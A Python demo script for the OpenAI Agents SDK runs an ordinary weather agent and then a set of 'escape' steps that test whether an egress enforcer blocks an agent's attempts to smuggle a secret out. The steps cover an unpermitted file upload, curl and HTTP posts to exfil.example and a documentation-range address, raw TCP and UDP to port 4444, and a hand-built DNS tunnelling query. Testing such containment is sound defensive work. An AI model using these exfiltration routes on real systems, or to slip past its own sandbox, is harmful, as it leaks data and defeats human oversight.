"""An ordinary program on the OpenAI Agents SDK, and then a curious one.

Nothing here knows of an enforcer: no base URL, no proxy, no certificate settings. Each step prints one JSON line with its
name, what the demo expects of it and what happened. The steps marked "escape" try to reach what the policy does not name.
"""

import asyncio
import json
import os
import socket
import subprocess
import sys
import urllib.error
import urllib.request

from agents import Agent, Runner, function_tool
from openai import OpenAI, PermissionDeniedError

# Addresses from the documentation ranges; in the demo they exist, and somebody watches them.
EXFIL_V4 = "203.0.113.10"
EXFIL_V6 = "2001:db8:bad::10"
EXFIL_PORT = 4444
SECRET = b"the-secret-the-agent-wants-to-smuggle-out"


def report(step: str, expected: str, got: str, ok: bool) -> None:
    line = {"step": step, "expected": expected, "got": got, "ok": ok}
    print(json.dumps(line), flush=True)


@function_tool
def get_weather(city: str) -> str:
    """Says what the weather is like in a city."""
    return f"{city}: light rain, 7 degrees"


def weather_agent() -> Agent:
    return Agent(
        name="Meteorologist",
        instructions="Answer questions about the weather with the tool.",
        tools=[get_weather],
    )


async def agent_run_with_a_tool() -> None:
    result = await Runner.run(weather_agent(), "What is the weather in Oslo?")
    got = result.final_output
    report("agent run with a tool call", "an answer quoting the tool", got, "light rain" in got)


async def streamed_run() -> None:
    agent = Agent(name="Echo", instructions="Be brief.")
    result = Runner.run_streamed(agent, "Count from one to five, slowly")
    pieces = 0
    async for event in result.stream_events():
        if event.type == "raw_response_event" and event.data.type == "response.output_text.delta":
            pieces += 1
    text = result.final_output
    ok = pieces > 1 and "slowly" in text
    report("streamed agent run", "text in several pieces", f"{pieces} pieces: {text}", ok)


async def agent_runs() -> None:
    await agent_run_with_a_tool()
    await streamed_run()


def denied_path() -> None:
    expected = "PermissionDeniedError naming the refusal"
    step = "escape: a path the policy does not name"
    try:
        OpenAI().files.create(file=("notes.txt", SECRET), purpose="user_data")
    except PermissionDeniedError as error:
        exchange = error.response.headers.get("x-enforcer-exchange")
        got = f"PermissionDeniedError {error.status_code} {error.code}: {error.body['message']}"
        report(step, expected, got, error.code == "enforcer_denied" and exchange is not None)
    except Exception as error:  # Whatever else happens is a finding, not the end of the demo.
        report(step, expected, f"{type(error).__name__}: {error}", False)
    else:
        report(step, expected, "the file was accepted", False)


def other_host() -> None:
    expected = "no such name, or a refusal"
    step = "escape: a host the policy does not name"
    try:
        with urllib.request.urlopen("https://exfil.example/collect", data=SECRET, timeout=20) as answer:
            report(step, expected, f"HTTP {answer.status}", False)
    except urllib.error.HTTPError as error:
        report(step, expected, f"HTTP {error.code}", error.code == 403)
    except OSError as error:
        report(step, expected, str(error), True)


def curl(step: str, *arguments: str) -> None:
    command = ["curl", "-sS", "-m", "20", "-o", "-", "-w", "\n%{http_code}", *arguments]
    ran = subprocess.run(command, capture_output=True, text=True, check=False)
    status = ran.stdout.rsplit("\n", 1)[-1]
    got = f"HTTP {status}" if ran.returncode == 0 else ran.stderr.strip()
    report(step, "a refusal or a broken connection", got, ran.returncode != 0 or status == "403")


def raw_tcp(step: str, family: int, address: str) -> None:
    expected = "no answer, and nothing arrives"
    try:
        with socket.socket(family, socket.SOCK_STREAM) as stream:
            stream.settimeout(20)
            stream.connect((address, EXFIL_PORT))
            stream.sendall(SECRET)
            stream.shutdown(socket.SHUT_WR)
            answer = stream.recv(1024)
            got = f"closed after {len(answer)} bytes"
            report(step, expected, got, not answer)
    except OSError as error:
        report(step, expected, str(error), True)


def udp() -> None:
    expected = "not sent, or sent nowhere"
    step = f"escape: UDP to {EXFIL_V4}"
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
            datagrams.sendto(SECRET, (EXFIL_V4, EXFIL_PORT))
        report(step, expected, "the kernel took it", True)
    except OSError as error:
        report(step, expected, str(error), True)


def dns_tunnel() -> None:
    """Asks a name server of its own choice for a name that carries data."""
    expected = "no such name, and nothing arrives"
    step = "escape: a DNS question to a server of its own"
    label = SECRET.hex()[:60].encode()
    name = b"".join(bytes([len(part)]) + part for part in (label, b"exfil", b"example")) + b"\0"
    question = b"\x13\x37\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + name + b"\x00\x01\x00\x01"
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
            datagrams.settimeout(5)
            datagrams.sendto(question, (EXFIL_V4, 53))
            answer = datagrams.recv(512)
        code = answer[3] & 15
        report(step, expected, f"answered with code {code}", code in (3, 5))
    except OSError as error:
        report(step, expected, str(error), True)


def main() -> int:
    asyncio.run(agent_runs())
    denied_path()
    other_host()
    # No -k and no CA of its own here either: the certificate for a bare address is for the enforcer to explain.
    curl("escape: curl to a bare address", "-d", SECRET.decode(), f"https://{EXFIL_V4}/collect")
    curl("escape: curl without TLS", "-d", SECRET.decode(), f"http://{EXFIL_V4}/collect")
    curl(
        "escape: curl told where an unknown host is",
        *("--resolve", f"exfil.example:443:{EXFIL_V4}", "-d", SECRET.decode()),
        "https://exfil.example/collect",
    )
    raw_tcp(f"escape: raw TCP to {EXFIL_V4}:{EXFIL_PORT}", socket.AF_INET, EXFIL_V4)
    raw_tcp(f"escape: raw TCP to [{EXFIL_V6}]:{EXFIL_PORT}", socket.AF_INET6, EXFIL_V6)
    udp()
    dns_tunnel()
    return 0


if __name__ == "__main__":
    os.environ.setdefault("OPENAI_API_KEY", "sk-demo-not-a-real-key")
    sys.exit(main())
